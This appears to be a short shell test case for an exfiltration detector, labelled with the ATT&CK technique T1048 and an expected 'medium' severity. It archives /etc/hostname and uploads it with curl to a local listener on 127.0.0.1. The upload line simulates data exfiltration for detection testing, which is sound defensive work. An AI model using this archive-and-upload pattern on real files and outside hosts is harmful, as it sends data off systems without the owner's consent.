# expects: medium T1048
. "$STAGE/act.sh"
STAGE_TALK='' listen
tar czf /tmp/d.tgz /etc/hostname
timeout 5 curl -s -m 2 -T /tmp/d.tgz "http://127.0.0.1:$port/"
wait $listener
